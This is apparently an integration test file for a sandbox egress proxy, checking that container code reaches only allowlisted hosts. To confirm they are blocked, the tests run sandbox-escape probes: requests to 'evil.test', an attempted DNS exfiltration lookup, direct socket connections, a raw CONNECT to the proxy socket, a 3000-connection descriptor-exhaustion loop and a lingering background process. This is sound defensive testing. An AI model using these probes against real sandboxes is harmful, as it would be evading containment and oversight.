/**
 * Container egress on runc and runsc: node's fetch, http and https, python's urllib and http.client reach
 * allowed hosts only through the sandbox's egress proxy (servers on the host's 127.0.0.1, names mapped by
 * `network.resolve`), refusals look like the in-process tiers', usage comes back in the ExecResult, and
 * there is no other way out: no DNS, no route, not even to the host's loopback, nothing between runs.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { EGRESS_SOCKET_PATH as EGRESS_SOCKET } from '../../../src/tiers/container/egress.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ContainerSandbox } from '../../../src/tiers/container/container-sandbox.js'
import { SandboxManager } from '../../../src/index.js'
import {
  KINDS,
  config,
  ensureImage,
  expectNoContainers,
  makeTier,
  request,
} from '../container/helpers.js'
import { startTestServers, type TestServers } from './egress-servers.js'

let servers: TestServers

beforeAll(async () => {
  ensureImage()
  servers = await startTestServers()
})
afterAll(async () => {
  await servers.close()
})

const CA = readFileSync(new URL('../../unit/policy/fixtures/self-signed.crt', import.meta.url))

describe.each(KINDS)('%s: egress through the policy proxy', (kind) => {
  const tier = makeTier(kind, { poolSize: 0 })
  let sandbox: ContainerSandbox
  const resolved: string[] = []
  let H = 0
  let T = 0

  beforeAll(async () => {
    ;({ http: H, https: T } = servers.ports)
    sandbox = await tier.createSandbox(
      config({
        networkEnabled: true,
        allowedDomains: ['api.allowed.test'],
        env: { NODE_EXTRA_CA_CERTS: '/work/ca.crt', SSL_CERT_FILE: '/work/ca.crt' },
        network: {
          allowedPorts: [H, T],
          allowPrivateCidrs: ['127.0.0.0/8'],
          resolve: (host) => {
            resolved.push(host)
            return host.endsWith('.test') ? ['127.0.0.1'] : []
          },
          maxResponseBytes: 100_000,
          maxRequestBytes: 100_000,
        },
      }),
    )
    await sandbox.writeFile('/work/ca.crt', CA)
  })
  afterAll(async () => {
    await tier.close()
    await expectNoContainers(tier)
  })

  it('node: fetch, http and https go through the proxy; refusals throw like in QuickJS', async () => {
    const code = `
      import http from 'node:http'
      import https from 'node:https'
      const get = (mod, url) => new Promise((resolve, reject) =>
        mod.get(url, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => resolve([res.statusCode, b])) }).on('error', reject))
      const reason = (p) => p.then(() => 'allowed', (e) => [e.name, e.reason, e.message].join('|'))
      const post = await fetch('http://api.allowed.test:${H}/echo', { method: 'POST', body: 'ping' })
      export default {
        post: [post.status, await post.text()],
        tls: await (await fetch('https://api.allowed.test:${T}/tls')).text(),
        http: await get(http, 'http://api.allowed.test:${H}/module'),
        https: await get(https, 'https://api.allowed.test:${T}/module'),
        denied: await reason(fetch('http://evil.test:${H}/')),
        deniedTls: await reason(fetch('https://evil.test:${T}/')),
        big: await reason(fetch('http://api.allowed.test:${H}/big')),
      }`
    const r = await sandbox.execute(request(code, 'javascript'))
    expect(r.error).toBeUndefined()
    const denied = 'PolicyDeniedError|domain_not_allowed|Network request denied: domain_not_allowed'
    expect(r.value).toEqual({
      post: [200, 'POST /echo ping'],
      tls: 'TLS GET /tls',
      http: [200, 'GET /module '],
      https: [200, 'TLS GET /module'],
      denied,
      deniedTls: denied,
      big: 'ResourceExceededError|response_size|Response body exceeds the size limit',
    })
    expect(r.usage).toMatchObject({
      requests: 5,
      deniedRequests: 2,
      netBytesOut: expect.any(Number),
    })
    expect(r.usage.netBytesIn).toBeGreaterThan(40)
    expect(servers.hostsSeen.some((h) => h.startsWith('evil.test'))).toBe(false)
    expect(resolved).not.toContain('evil.test')
  })

  it('python: urllib honours the proxy variables for http and https; http.client via the proxy', async () => {
    const code = `
import os, http.client, urllib.error, urllib.request
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=10).read().decode()
    except urllib.error.HTTPError as e:
        return 'HTTP %d %s' % (e.code, e.headers.get('x-sandtier-denied'))
    except urllib.error.URLError as e:
        return 'URLError %s' % e.reason
c = http.client.HTTPConnection('127.0.0.1', int(os.environ['SANDTIER_EGRESS_PORT']))
c.request('GET', 'http://api.allowed.test:${H}/client')
[fetch('http://api.allowed.test:${H}/py'), fetch('https://api.allowed.test:${T}/py'),
 fetch('http://evil.test:${H}/'), fetch('https://evil.test:${T}/'), c.getresponse().read().decode()]`
    const r = await sandbox.execute(request(code, 'python'))
    expect(r.error).toBeUndefined()
    expect(r.value).toEqual([
      'GET /py ',
      'TLS GET /py',
      'HTTP 403 domain_not_allowed',
      'URLError Tunnel connection failed: 403 Network request denied: domain_not_allowed',
      'GET /client ',
    ])
    expect(r.usage).toMatchObject({ requests: 3, deniedRequests: 2 })
  })

  it('has no DNS and no route but the proxy (no DNS exfiltration, no direct connection)', async () => {
    const code = `
import socket, urllib.request
out = {}
try:
    socket.getaddrinfo('secret.attacker.test', 80); out['dns'] = 'resolved'
except socket.gaierror as e:
    out['dns'] = 'gaierror'
for name, target in [('hostLoopback', ('127.0.0.1', ${H})), ('public', ('1.1.1.1', 443)), ('resolver', ('10.255.255.53', 53))]:
    try:
        socket.create_connection(target, timeout=2); out[name] = 'connected'
    except OSError as e:
        out[name] = type(e).__name__
try:
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open('http://api.allowed.test:${H}/', timeout=3)
    out['noproxy'] = 'connected'
except OSError as e:
    out['noproxy'] = 'failed'
out`
    const r = await sandbox.execute(request(code, 'python'))
    // The host's loopback server is not the container's loopback: nothing listens there.
    expect(r.value).toEqual({
      dns: 'gaierror',
      hostLoopback: 'ConnectionRefusedError',
      public: 'OSError',
      resolver: 'OSError',
      noproxy: 'failed',
    })
    const shell = await sandbox.execute(request('getent hosts example.com; echo "getent=$?"'))
    expect(shell.stdout).toContain('getent=2')
    expect(resolved).not.toContain('secret.attacker.test')
  })

  it('checks a CONNECT that arrives straight on the socket, not only through the forwarder', async () => {
    const code = `
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('/run/sandtier-egress/proxy.sock')
s.sendall(b'CONNECT evil.test:${T} HTTP/1.1\\r\\nHost: evil.test:${T}\\r\\n\\r\\n')
s.recv(200).decode().split('\\r\\n')[0]`
    const r = await sandbox.execute(request(code, 'python'))
    expect(r.value).toBe('HTTP/1.1 403 Network request denied: domain_not_allowed')
  })

  it('a guest holding thousands of proxy connections gets 64; the host keeps its descriptors (D19)', async () => {
    const hostFds = (): number => readdirSync('/proc/self/fd').length
    const before = hostFds()
    let peak = before
    const sampler = setInterval(() => (peak = Math.max(peak, hostFds())), 20)
    const code = `
import socket, time, urllib.request
held = []
for i in range(3000):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect('${EGRESS_SOCKET}')
    except OSError:
        s.close()
        continue
    held.append(s)
time.sleep(0.5)
alive = 0
for s in held:
    s.setblocking(False)
    try:
        alive += 1 if s.recv(1) != b'' else 0
    except BlockingIOError:
        alive += 1
    except OSError:
        pass
for s in held:
    s.close()
time.sleep(0.2)
body = urllib.request.urlopen('http://api.allowed.test:${H}/after', timeout=5).read().decode()
print(alive, body)
`
    try {
      const r = await sandbox.execute(request(code, 'python', { timeoutMs: 60_000 }))
      expect(r.status).toBe('ok')
      const [alive, ...body] = r.stdout.trim().split(' ')
      expect(Number(alive)).toBe(64)
      expect(body.join(' ')).toBe('GET /after')
      expect(r.usage.deniedRequests).toBeGreaterThan(2000)
    } finally {
      clearInterval(sampler)
    }
    expect(peak - before).toBeLessThan(200)
  })

  it('refuses an upload over maxRequestBytes: 413 over http, a cut tunnel over https (D20)', async () => {
    const code = `
import ssl, urllib.request, urllib.error
def post(url):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=b'u' * 200_000, method='POST'), timeout=10)
        return 'sent'
    except urllib.error.HTTPError as e:
        return '%d %s' % (e.code, e.headers.get('x-sandtier-error'))
    except Exception as e:
        return 'failed'
print(post('http://api.allowed.test:${H}/upload'), '|', post('https://api.allowed.test:${T}/upload'))
`
    const r = await sandbox.execute(request(code, 'python'))
    expect(r.status).toBe('ok')
    expect(r.stdout.trim()).toBe('413 request_size | failed')
    expect(servers.pathsSeen).not.toContain('/upload')
    expect(r.usage.netBytesOut).toBeLessThanOrEqual(100_000)
  })

  it('a process left behind by a run ends with it and never reaches the network afterwards', async () => {
    const started = await sandbox.execute(
      request(
        `nohup python3 -c "
import time, urllib.request, urllib.error
time.sleep(0.5)
try:
    urllib.request.urlopen('http://api.allowed.test:${H}/late', timeout=5)
    r = 'allowed'
except urllib.error.HTTPError as e:
    r = e.headers.get('x-sandtier-denied')
open('/work/late.txt', 'w').write(r)
" >/dev/null 2>&1 &`,
      ),
    )
    expect(started.status).toBe('ok')
    // The late request must never come: an absence has no event, so a bound of 5 times its 0.5 s delay.
    await new Promise((resolve) => setTimeout(resolve, 2500))
    // The run's processes are killed at its end (issue 21): the late request is never made, and the
    // file it would have written (with the proxy's verdict) does not exist.
    const late = await sandbox.execute(
      request('test -e /work/late.txt && echo exists || echo absent'),
    )
    expect(late.stdout.trim()).toBe('absent')
    expect(servers.pathsSeen).not.toContain('/late')
  })
})

describe('egress config', () => {
  it('refuses a custom main command with networkEnabled (validate, which the manager calls once)', async () => {
    const tier = makeTier('docker', { poolSize: 0 })
    try {
      expect(() =>
        tier.validate(config({ networkEnabled: true, command: ['sleep', 'infinity'] })),
      ).toThrow(/command/)
    } finally {
      await tier.close()
    }
    const manager = new SandboxManager()
    try {
      const create = manager.createSandbox({
        type: 'docker',
        networkEnabled: true,
        command: ['sleep', 'infinity'],
      })
      await expect(create).rejects.toMatchObject({ code: 'ERR_CONFIG', option: 'command' })
    } finally {
      await manager.close()
    }
  })
})
